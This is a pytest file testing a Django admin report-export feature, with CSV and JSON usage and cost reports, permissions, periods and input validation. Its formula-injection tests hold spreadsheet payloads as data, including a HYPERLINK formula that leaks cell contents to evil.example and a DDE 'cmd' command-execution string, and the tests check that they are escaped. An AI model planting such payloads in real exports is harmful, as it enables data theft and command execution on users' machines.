"""The report downloads (``reports.exports.report_export``): figures, escaping, permissions, input."""

import csv
import io
import json
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.models import User
from ai_models.models import AIModel
from chatbot.models import Chatbot, ChatMessage, ChatSession, OpenRouterRequestCost
from core.factories import (
    AIModelFactory,
    ChatbotFactory,
    ChatMessageFactory,
    ChatSessionFactory,
    RequestCostFactory,
    UserFactory,
)
from reports import selectors
from reports.exports import EXPORTS, csv_cell, report_rows_as_dicts
from reports.periods import Period

pytestmark = pytest.mark.django_db

# Not UTC, so that a day boundary taken in UTC instead of TIME_ZONE shows. Summer time starts in
# Paris on 29 March 2026, the day before the period of these tests.
PARIS = ZoneInfo("Europe/Paris")
# 30 March to 2 April 2026: across the end of March, with an idle day (1 April) inside.
SINCE, UNTIL = "2026-03-30", "2026-04-02"
PERIOD = Period(since=date(2026, 3, 30), until=date(2026, 4, 2))
KEYS = [
    "top_users_by_cost",
    "top_models_by_usage",
    "top_free_models",
    "average_tokens_per_request",
    "top_chatbots_by_sessions",
    "top_users_by_free_usage",
    "chatbot_unit_economics",
    "daily_usage",
]


def paris(day: str, clock: str = "12:00:00") -> datetime:
    return datetime.fromisoformat(f"{day}T{clock}").replace(tzinfo=PARIS)


@dataclass
class Platform:
    ann: Any
    bob: Any
    big: Any
    small: Any
    free: Any
    helper: Any
    free_bot: Any


@pytest.fixture
def platform(settings) -> Platform:
    """Build a platform whose figures for 30 March to 2 April 2026 are worked out by hand in the tests."""
    settings.TIME_ZONE = "Europe/Paris"
    ann, bob = UserFactory(username="ann"), UserFactory(username="bob")
    UserFactory(username="dave")  # never made a request: in no export
    big = AIModelFactory(openrouter_id="acme/big", name="Acme Big")
    small = AIModelFactory(openrouter_id="acme/small", name="Acme Small")
    free = AIModelFactory(free=True, openrouter_id="acme/free:free", name="Acme Free")
    helper = ChatbotFactory(name="Helper", owner=None, ai_model=big)
    free_bot = ChatbotFactory(name="Free Bot", owner=None, ai_model=free)

    def session(user, chatbot, at, *message_clocks):
        chat = ChatSessionFactory(user=user, chatbot=chatbot, created_at=at)
        for clock in message_clocks:
            ChatMessageFactory(session=chat, created_at=paris(at.date().isoformat(), clock))
        return chat

    s_before = session(ann, helper, paris("2026-03-29", "23:59:59"), "23:59:59")
    s1 = session(ann, helper, paris("2026-03-30", "00:00:00"), "00:00:00", "00:01:00")
    s3 = session(ann, free_bot, paris("2026-03-31", "23:00:00"), "23:00:00", "23:30:00", "23:59:59")
    s2 = session(bob, helper, paris("2026-04-02", "23:00:00"), "23:00:00")
    s_after = session(bob, free_bot, paris("2026-04-03", "00:00:00"), "00:00:00")

    def request(user, model, prompt, completion, cost, at, chat):
        RequestCostFactory(
            user=user,
            ai_model=model,
            prompt_tokens=prompt,
            completion_tokens=completion,
            cost_usd=Decimal(cost),
            created_at=at,
            session=chat,
        )

    # r0 and r5 lie one second before and on the first instant after the period.
    request(ann, big, 100, 100, "0.5", paris("2026-03-29", "23:59:59"), s_before)  # r0
    request(ann, big, 1000, 500, "0.0105", paris("2026-03-30", "00:00:00"), s1)  # r1, first instant
    request(ann, free, 300, 100, "0", paris("2026-03-31", "23:59:59"), s3)  # r2, last second of March
    request(bob, small, 200, 0, "0.000123456789", paris("2026-03-31"), None)  # r3, outside any chat
    request(bob, big, 2000, 1000, "0.021", paris("2026-04-02", "23:59:59"), s2)  # r4, last second
    request(bob, free, 50, 50, "0", paris("2026-04-03", "00:00:00"), s_after)  # r5
    return Platform(ann, bob, big, small, free, helper, free_bot)


def export_url(key: str, export_format: str) -> str:
    return reverse("reports:export", args=[key, export_format])


def download(client, key: str, export_format: str, **params: str):
    return client.get(export_url(key, export_format), params or {"from": SINCE, "to": UNTIL})


def body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response), newline="")))


def json_document(response) -> dict[str, Any]:
    # Any float in the document would come back as a float, and fail the comparisons.
    return json.loads(body(response))


def expected_csv(p: Platform) -> dict[str, list[list[str]]]:
    """Return each export as CSV over 30 March to 2 April: r1..r4 are in, r0 and r5 out."""
    return {
        "top_users_by_cost": [
            ["Rank", "User ID", "Username", "Total cost (USD)", "Total tokens", "Requests"],
            # bob: r3 0.000123456789 + r4 0.021 = 0.021123456789; 200 + 3000 = 3200 tokens.
            ["1", str(p.bob.pk), "bob", "0.021123456789", "3200", "2"],
            # ann: r1 0.0105 + r2 0 = 0.0105; 1500 + 400 = 1900 tokens.
            ["2", str(p.ann.pk), "ann", "0.010500000000", "1900", "2"],
        ],
        "top_models_by_usage": [
            ["Rank", "Model ID", "OpenRouter ID", "Model", "Usage count", "Total tokens", "Total cost (USD)"],
            # big: r1 + r4 = 1500 + 3000 tokens, 0.0105 + 0.021 USD.
            ["1", str(p.big.pk), "acme/big", "Acme Big", "2", "4500", "0.031500000000"],
            # free (r2) and small (r3) tie on 1 request: 400 tokens beat 200.
            ["2", str(p.free.pk), "acme/free:free", "Acme Free", "1", "400", "0.000000000000"],
            ["3", str(p.small.pk), "acme/small", "Acme Small", "1", "200", "0.000123456789"],
        ],
        "top_free_models": [
            ["Rank", "Model ID", "OpenRouter ID", "Free model", "Usage count", "Total tokens"],
            ["1", str(p.free.pk), "acme/free:free", "Acme Free", "1", "400"],
        ],
        # (1500 + 400 + 200 + 3000) / 4 = 5100 / 4 = 1275.
        "average_tokens_per_request": [["Average tokens per request"], ["1275.00"]],
        "top_chatbots_by_sessions": [
            ["Rank", "Chatbot ID", "Chatbot", "Sessions", "Messages"],
            # Helper: s1 (2 messages) and s2 (1 message); s_before is on 29 March.
            ["1", str(p.helper.pk), "Helper", "2", "3"],
            # Free Bot: s3 (3 messages, the last at 23:59:59 on 31 March); s_after is on 3 April.
            ["2", str(p.free_bot.pk), "Free Bot", "1", "3"],
        ],
        "top_users_by_free_usage": [
            ["Rank", "User ID", "Username", "Total tokens", "Requests"],
            ["1", str(p.ann.pk), "ann", "400", "1"],  # r2; bob's r5 is on 3 April
        ],
        "chatbot_unit_economics": [
            [
                "Rank",
                "Chatbot ID",
                "Chatbot",
                "Sessions",
                "Messages",
                "Requests",
                "Free requests",
                "Total cost (USD)",
                "Cost per session (USD)",
                "Cost per message (USD)",
                "Free share of requests (%)",
            ],
            # Helper: r1 + r4 = 0.0315 USD over 2 sessions (0.01575) and 3 messages (0.0105).
            [
                *("1", str(p.helper.pk), "Helper", "2", "3", "2", "0"),
                *("0.031500000000", "0.015750000000", "0.010500000000", "0.00"),
            ],
            # Free Bot: r2 only, free and costless: 1 request of 1 free is 100 %.
            [
                "2",
                str(p.free_bot.pk),
                "Free Bot",
                "1",
                "3",
                "1",
                "1",
                "0.000000000000",
                "0.000000000000",
                "0.000000000000",
                "100.00",
            ],
        ],
        "daily_usage": [
            [
                "Day",
                "Free cost (USD)",
                "Paid cost (USD)",
                "Total cost (USD)",
                "Free requests",
                "Paid requests",
                "Requests",
                "Free tokens",
                "Paid tokens",
                "Total tokens",
            ],
            [
                "2026-03-30",
                "0.000000000000",
                "0.010500000000",
                "0.010500000000",
                "0",
                "1",
                "1",
                "0",
                "1500",
                "1500",
            ],  # r1
            # r2 (free, 400 tokens) and r3 (paid, 200 tokens, 0.000123456789).
            ["2026-03-31", "0.000000000000", "0.000123456789", "0.000123456789", "1", "1", "2", "400", "200", "600"],
            [
                "2026-04-01",
                "0.000000000000",
                "0.000000000000",
                "0.000000000000",
                "0",
                "0",
                "0",
                "0",
                "0",
                "0",
            ],  # no usage: zeros, not a gap
            [
                "2026-04-02",
                "0.000000000000",
                "0.021000000000",
                "0.021000000000",
                "0",
                "1",
                "1",
                "0",
                "3000",
                "3000",
            ],  # r4
        ],
    }


INT_FIELDS = {
    "user_id",
    "model_id",
    "chatbot_id",
    "total_tokens",
    "request_count",
    "usage_count",
    "session_count",
    "message_count",
    "free_request_count",
    "free_requests",
    "paid_requests",
    "total_requests",
    "free_tokens",
    "paid_tokens",
}
JSON_KEYS = {
    "top_users_by_cost": ["user_id", "username", "total_cost_usd", "total_tokens", "request_count"],
    "top_models_by_usage": ["model_id", "openrouter_id", "name", "usage_count", "total_tokens", "total_cost_usd"],
    "top_free_models": ["model_id", "openrouter_id", "name", "usage_count", "total_tokens"],
    "top_chatbots_by_sessions": ["chatbot_id", "name", "session_count", "message_count"],
    "top_users_by_free_usage": ["user_id", "username", "total_tokens", "request_count"],
    "chatbot_unit_economics": [
        "chatbot_id",
        "name",
        "session_count",
        "message_count",
        "request_count",
        "free_request_count",
        "total_cost_usd",
        "cost_per_session",
        "cost_per_message",
        "free_share",
    ],
    "daily_usage": [
        "day",
        "free_cost_usd",
        "paid_cost_usd",
        "total_cost_usd",
        "free_requests",
        "paid_requests",
        "total_requests",
        "free_tokens",
        "paid_tokens",
        "total_tokens",
    ],
}
TITLES = {
    "top_users_by_cost": "Top Users by OpenRouter Cost",
    "top_models_by_usage": "Top AI Models by Usage",
    "top_free_models": "Top Free AI Models Usage",
    "average_tokens_per_request": "Average Token Usage",
    "top_chatbots_by_sessions": "Top Chatbots by Session Count",
    "top_users_by_free_usage": "Top Users by Free Model Usage",
    "chatbot_unit_economics": "Chatbot Unit Economics",
    "daily_usage": "Daily Usage",
}


def expected_json_rows(key: str, csv_table: list[list[str]]) -> list[dict[str, Any]]:
    """Return the JSON rows the hand-computed CSV table stands for: the same figures, typed."""
    keys = JSON_KEYS[key]
    # The CSV adds a rank before the fields, except on the daily series.
    offset = 0 if key == "daily_usage" else 1
    return [
        {name: int(cell) if name in INT_FIELDS else cell for name, cell in zip(keys, row[offset:], strict=True)}
        for row in csv_table[1:]
    ]


# --- Figures ---------------------------------------------------------------------------------


@pytest.mark.parametrize("key", KEYS)
def test_csv_has_the_hand_computed_figures(admin_client, platform, key):
    response = download(admin_client, key, "csv")

    assert response.status_code == 200
    assert csv_rows(response) == expected_csv(platform)[key]


@pytest.mark.parametrize("key", KEYS)
def test_json_has_the_hand_computed_figures(admin_client, platform, key):
    document = json_document(download(admin_client, key, "json"))

    expected: dict[str, Any] = {
        "report": key,
        "title": TITLES[key],
        "period": {"since": SINCE, "until": UNTIL},
    }
    if key == "average_tokens_per_request":
        expected["value"] = "1275.00"
    else:
        expected["rows"] = expected_json_rows(key, expected_csv(platform)[key])
    assert document == expected
    assert list(document) == list(expected)


# Each export's selector, called directly as the report pages and the dashboard call it.
SELECTOR_CALLS = {
    "top_users_by_cost": lambda period: selectors.top_users_by_cost(period=period, limit=10),
    "top_models_by_usage": lambda period: selectors.top_models_by_usage(period=period, limit=10),
    "top_free_models": lambda period: selectors.top_free_models(period=period, limit=10),
    "top_chatbots_by_sessions": lambda period: selectors.top_chatbots_by_sessions(period=period, limit=10),
    "top_users_by_free_usage": lambda period: selectors.top_users_by_free_usage(period=period, limit=10),
    "chatbot_unit_economics": lambda period: selectors.chatbot_unit_economics(period=period),
    "daily_usage": lambda period: selectors.daily_usage(period=period),
}


@pytest.mark.parametrize("key", list(SELECTOR_CALLS))
def test_exports_carry_the_selector_figures(admin_client, platform, key):
    rows = SELECTOR_CALLS[key](PERIOD)
    assert rows, key
    as_dicts = report_rows_as_dicts(report=EXPORTS[key], rows=rows)

    assert json_document(download(admin_client, key, "json"))["rows"] == as_dicts
    table = csv_rows(download(admin_client, key, "csv"))
    offset = 0 if key == "daily_usage" else 1
    assert [row[offset:] for row in table[1:]] == [[str(value) for value in row.values()] for row in as_dicts]
    # Every amount is an exact decimal string, equal to the selector's Decimal.
    for row, data in zip(rows, as_dicts, strict=True):
        for name, value in data.items():
            if isinstance(getattr(row, name), Decimal):
                assert Decimal(value) == getattr(row, name), name


def test_average_equals_the_selector(admin_client, platform):
    document = json_document(download(admin_client, "average_tokens_per_request", "json"))
    assert Decimal(document["value"]) == selectors.average_tokens_per_request(period=PERIOD) == Decimal("1275")


def test_preset_period_resolves_to_dates(admin_client, platform, monkeypatch):
    # Presets count back from today in TIME_ZONE: make it 2 April 2026, 15:00 in Paris.
    monkeypatch.setattr("django.utils.timezone.now", lambda: paris("2026-04-02", "15:00:00"))

    # This month, on 2 April: 1 and 2 April, so r4 only (bob, 3000 tokens, 0.021).
    response = admin_client.get(export_url("top_users_by_cost", "csv"), {"period": "this-month"})

    assert response["Content-Disposition"] == 'attachment; filename="top_users_by_cost_2026-04-01_2026-04-02.csv"'
    assert csv_rows(response)[1:] == [["1", str(platform.bob.pk), "bob", "0.021000000000", "3000", "1"]]
    document = json_document(admin_client.get(export_url("daily_usage", "json"), {"period": "this-month"}))
    assert document["period"] == {"since": "2026-04-01", "until": "2026-04-02"}
    assert [row["day"] for row in document["rows"]] == ["2026-04-01", "2026-04-02"]


def test_all_time_is_the_default(admin_client, platform):
    response = admin_client.get(export_url("top_users_by_cost", "json"))

    assert response["Content-Disposition"] == 'attachment; filename="top_users_by_cost_all-time.json"'
    document = json_document(response)
    assert document["period"] == {"since": None, "until": None}
    # ann gains r0: 0.0105 + 0 + 0.5 = 0.5105; bob gains r5 (free): 3200 + 100 = 3300 tokens.
    assert [(row["username"], row["total_cost_usd"], row["total_tokens"]) for row in document["rows"]] == [
        ("ann", "0.510500000000", 2100),
        ("bob", "0.021123456789", 3300),
    ]


def test_open_ended_periods_name_their_files(admin_client, platform):
    since = admin_client.get(export_url("top_free_models", "csv"), {"from": "2026-04-03"})
    until = admin_client.get(export_url("top_free_models", "csv"), {"period": "custom", "to": "2026-03-29"})

    assert since["Content-Disposition"] == 'attachment; filename="top_free_models_since_2026-04-03.csv"'
    assert csv_rows(since)[1:] == [["1", str(platform.free.pk), "acme/free:free", "Acme Free", "1", "100"]]  # r5
    assert until["Content-Disposition"] == 'attachment; filename="top_free_models_until_2026-03-29.csv"'
    assert csv_rows(until)[1:] == []  # r0 is the only request before 30 March, on a paid model


def test_empty_period_exports_headers_and_no_rows(admin_client, platform):
    params = {"from": "2020-01-01", "to": "2020-01-31"}

    assert csv_rows(admin_client.get(export_url("top_users_by_cost", "csv"), params)) == [
        ["Rank", "User ID", "Username", "Total cost (USD)", "Total tokens", "Requests"]
    ]
    assert json_document(admin_client.get(export_url("top_users_by_cost", "json"), params))["rows"] == []
    assert csv_rows(admin_client.get(export_url("average_tokens_per_request", "csv"), params)) == [
        ["Average tokens per request"],
        [""],
    ]
    assert json_document(admin_client.get(export_url("average_tokens_per_request", "json"), params))["value"] is None


def test_tiny_amounts_stay_in_plain_notation(admin_client):
    RequestCostFactory(user=UserFactory(username="erin"), cost_usd=Decimal("0.00000001"))

    assert csv_rows(admin_client.get(export_url("top_users_by_cost", "csv")))[1][3] == "0.000000010000"
    assert json_document(admin_client.get(export_url("top_users_by_cost", "json")))["rows"][0]["total_cost_usd"] == (
        "0.000000010000"
    )


# --- Limit -----------------------------------------------------------------------------------


def test_limit_defaults_to_the_pages_ten_and_can_be_chosen(admin_client):
    # user0 pays 1 USD, user1 2 USD, ... user11 12 USD: the top ten are user11 down to user2.
    for index in range(12):
        RequestCostFactory(user=UserFactory(username=f"payer{index:02}"), cost_usd=Decimal(index + 1))

    default = json_document(admin_client.get(export_url("top_users_by_cost", "json")))["rows"]
    assert [row["username"] for row in default] == [f"payer{index:02}" for index in range(11, 1, -1)]
    one = csv_rows(admin_client.get(export_url("top_users_by_cost", "csv"), {"limit": "1"}))
    assert [row[2] for row in one[1:]] == ["payer11"]
    everyone = json_document(admin_client.get(export_url("top_users_by_cost", "json"), {"limit": "1000"}))["rows"]
    assert len(everyone) == 12
    # The unit economics table lists every chatbot unless a limit is given.
    for index in range(12):
        ChatSessionFactory(chatbot=ChatbotFactory(name=f"bot{index:02}"))
    assert len(json_document(admin_client.get(export_url("chatbot_unit_economics", "json")))["rows"]) == 12
    assert (
        len(json_document(admin_client.get(export_url("chatbot_unit_economics", "json"), {"limit": "3"}))["rows"]) == 3
    )


# --- Formula injection -----------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_escapes_cells_a_spreadsheet_would_run(admin_client):
    for index, name in enumerate(DANGEROUS):
        RequestCostFactory(user=UserFactory(username=name), cost_usd=Decimal(10 - index))
    RequestCostFactory(user=UserFactory(username="a=b"), cost_usd=Decimal("0.25"))  # "=" inside is harmless
    model = AIModelFactory(openrouter_id="-evil/model", name="=cmd|' /C calc'!A0")
    # Two requests of one user: the most used model, and the costliest user.
    RequestCostFactory.create_batch(2, user=UserFactory(username="payer"), ai_model=model, cost_usd=Decimal(10))

    users = csv_rows(admin_client.get(export_url("top_users_by_cost", "csv")))
    # Ranked by cost: payer (20 USD) first, then the names in order, then "a=b".
    assert [row[2] for row in users[2:]] == [f"'{name}" for name in DANGEROUS] + ["a=b"]
    # Numbers stay numbers: no apostrophe before a cost, a count or an id.
    assert [row[3] for row in users[2:]] == [f"{10 - index}.000000000000" for index in range(6)] + ["0.250000000000"]
    models = csv_rows(admin_client.get(export_url("top_models_by_usage", "csv")))
    assert models[1][2:4] == ["'-evil/model", "'=cmd|' /C calc'!A0"]

    document = json_document(admin_client.get(export_url("top_users_by_cost", "json")))
    assert [row["username"] for row in document["rows"][1:]] == [*DANGEROUS, "a=b"]
    document = json_document(admin_client.get(export_url("top_models_by_usage", "json")))
    assert (document["rows"][0]["openrouter_id"], document["rows"][0]["name"]) == ("-evil/model", "=cmd|' /C calc'!A0")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("", ""),
        (None, ""),
        (Decimal("-1.50"), "-1.50"),
        (Decimal("1E-8"), "0.00000001"),
        (-3, -3),
        (date(2026, 3, 1), "2026-03-01"),
    ],
)
def test_csv_cell_escapes_text_only(value, cell):
    assert csv_cell(value) == cell


# --- Permissions -----------------------------------------------------------------------------


def staff_user(*models: type) -> User:
    """Return an active staff user with the view permission on exactly ``models``."""
    user = UserFactory(is_staff=True)
    for model in models:
        user.user_permissions.add(
            Permission.objects.get(
                content_type__app_label=model._meta.app_label, codename=f"view_{model._meta.model_name}"
            )
        )
    return user


EVERY_MODEL = (User, AIModel, Chatbot, ChatSession, ChatMessage, OpenRouterRequestCost)
NEEDS = {
    "top_users_by_cost": {User, OpenRouterRequestCost},
    "top_models_by_usage": {AIModel, OpenRouterRequestCost},
    "top_free_models": {AIModel, OpenRouterRequestCost},
    "average_tokens_per_request": {OpenRouterRequestCost},
    "top_chatbots_by_sessions": {Chatbot, ChatSession, ChatMessage},
    "top_users_by_free_usage": {User, AIModel, OpenRouterRequestCost},
    "chatbot_unit_economics": {Chatbot, ChatSession, ChatMessage, OpenRouterRequestCost},
    "daily_usage": {OpenRouterRequestCost},
}


@pytest.mark.parametrize("key", KEYS)
def test_each_export_needs_view_permission_on_every_model_it_reads(client, platform, key):
    for missing in NEEDS[key]:
        client.force_login(staff_user(*(model for model in EVERY_MODEL if model is not missing)))
        for export_format in ("csv", "json"):
            response = download(client, key, export_format)
            assert response.status_code == 403, (missing, export_format)
            assert not response.streaming
            assert response["Content-Type"] == "text/plain; charset=utf-8"
            assert f"view_{missing._meta.model_name}" in response.content.decode()

    client.force_login(staff_user(*NEEDS[key]))
    assert download(client, key, "csv").status_code == 200
    assert download(client, key, "json").status_code == 200


def test_forbidden_message_names_the_permissions(client, platform):
    client.force_login(staff_user(User))

    response = download(client, "top_users_by_cost", "csv")

    assert response.content.decode() == (
        "Exporting 'Top Users by OpenRouter Cost' needs the view permissions "
        "accounts.view_user, chatbot.view_openrouterrequestcost.\n"
    )


@pytest.mark.parametrize("key", KEYS)
def test_superuser_may_export_everything(admin_client, platform, key):
    for export_format in ("csv", "json"):
        assert download(admin_client, key, export_format).status_code == 200


def test_anonymous_visitor_is_sent_to_the_login_page(client, platform):
    response = client.get(export_url("top_users_by_cost", "csv"), {"period": "last-month"})

    assert response.status_code == 302
    assert (
        response["Location"] == "/admin/login/?next=/admin/reports/export/top_users_by_cost.csv%3Fperiod%3Dlast-month"
    )


def test_non_staff_user_is_sent_to_the_login_page(client, platform):
    user = staff_user(*EVERY_MODEL)
    user.is_staff = False
    user.save()
    client.force_login(user)

    response = client.get(export_url("top_users_by_cost", "json"))

    assert response.status_code == 302
    assert response["Location"] == "/admin/login/?next=/admin/reports/export/top_users_by_cost.json"


# --- The response ----------------------------------------------------------------------------


def test_csv_response_is_a_streamed_attachment(admin_client, platform):
    response = download(admin_client, "top_users_by_cost", "csv")

    assert response.status_code == 200
    assert response.streaming is True
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="top_users_by_cost_2026-03-30_2026-04-02.csv"'
    # Figures per person must not sit in a shared cache.
    assert "no-store" in response["Cache-Control"]
    # RFC 4180 line ends.
    assert body(download(admin_client, "top_users_by_cost", "csv")).startswith(
        "Rank,User ID,Username,Total cost (USD),Total tokens,Requests\r\n1,"
    )


def test_json_response_is_a_streamed_attachment(admin_client, platform):
    response = download(admin_client, "daily_usage", "json")

    assert response.status_code == 200
    assert response.streaming is True
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="daily_usage_2026-03-30_2026-04-02.json"'
    assert "no-store" in response["Cache-Control"]
    # Streamed as a head, then one chunk per row, then the end.
    chunks = list(download(admin_client, "daily_usage", "json").streaming_content)
    assert len(chunks) == 1 + 4 + 1


def test_names_keep_their_characters_in_both_formats(admin_client):
    RequestCostFactory(user=UserFactory(username='Zoë, "the boss"\nSmith'))

    assert csv_rows(admin_client.get(export_url("top_users_by_cost", "csv")))[1][2] == 'Zoë, "the boss"\nSmith'
    document = json_document(admin_client.get(export_url("top_users_by_cost", "json")))
    assert document["rows"][0]["username"] == 'Zoë, "the boss"\nSmith'


def test_only_get_and_head_are_allowed(admin_client, platform):
    assert admin_client.post(export_url("top_users_by_cost", "csv")).status_code == 405
    assert admin_client.head(export_url("top_users_by_cost", "csv")).status_code == 200


def export_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(export_url("top_users_by_cost", "csv"), {"limit": "1000"})
        assert response.status_code == 200
        body(response)
    return len(queries)


def test_queries_do_not_grow_with_rows(admin_client):
    RequestCostFactory.create_batch(3)
    small = export_queries(admin_client)
    RequestCostFactory.create_batch(30)

    # The session, the user, then the report's two queries (the bound of the users the pruning
    # leaves out, here none, then the rows).
    assert export_queries(admin_client) == small == 4


# --- Bad input -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"period": "yesterday"}, "Unknown period 'yesterday'"),
        ({"from": "2026-13-01"}, "From must be a date written YYYY-MM-DD, not '2026-13-01'."),
        ({"to": "soon"}, "To must be a date written YYYY-MM-DD, not 'soon'."),
        ({"from": "2026-04-02", "to": "2026-03-30"}, "The period starts (2026-04-02) after it ends (2026-03-30)."),
        ({"period": "last-month", "from": "2026-03-01"}, "Choose either the period 'last-month' or a from/to range"),
        ({"period": "custom"}, "A custom period needs a from date, a to date, or both."),
        ({"from": "1990-01-01", "to": "2026-01-01"}, "The period spans 13150 days; the longest allowed is 3660."),
        ({"limit": "0"}, "limit must be a whole number from 1 to 1000, not '0'."),
        ({"limit": "1001"}, "limit must be a whole number from 1 to 1000, not '1001'."),
        ({"limit": "-1"}, "limit must be a whole number from 1 to 1000, not '-1'."),
        ({"limit": "ten"}, "limit must be a whole number from 1 to 1000, not 'ten'."),
        ({"limit": "2.5"}, "limit must be a whole number from 1 to 1000, not '2.5'."),
        ({"limit": "\u0663"}, "limit must be a whole number from 1 to 1000, not '\u0663'."),  # an Arabic-Indic 3
        ({"limit": "9" * 5000}, "limit must be a whole number from 1 to 1000, not '999"),
    ],
)
@pytest.mark.parametrize("export_format", ["csv", "json"])
def test_bad_query_is_a_plain_400(admin_client, platform, params, message, export_format):
    response = admin_client.get(export_url("top_users_by_cost", export_format), params)

    assert response.status_code == 400
    assert not response.streaming
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert message in response.content.decode()


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("/admin/reports/export/top_users.csv", "There is no report 'top_users' to export.\n"),
        ("/admin/reports/export/Top_Users_By_Cost.csv", "There is no report 'Top_Users_By_Cost' to export.\n"),
        ("/admin/reports/export/top_users_by_cost.xlsx", "Reports export as csv or json, not 'xlsx'.\n"),
        ("/admin/reports/export/top_users_by_cost.CSV", "Reports export as csv or json, not 'CSV'.\n"),
    ],
)
def test_unknown_report_or_format_is_a_plain_404(admin_client, path, message):
    response = admin_client.get(path)

    assert response.status_code == 404
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode() == message


def test_unknown_report_is_404_before_permissions(client):
    client.force_login(staff_user())

    assert client.get("/admin/reports/export/nothing.csv").status_code == 404
    assert client.get(export_url("top_users_by_cost", "csv")).status_code == 403
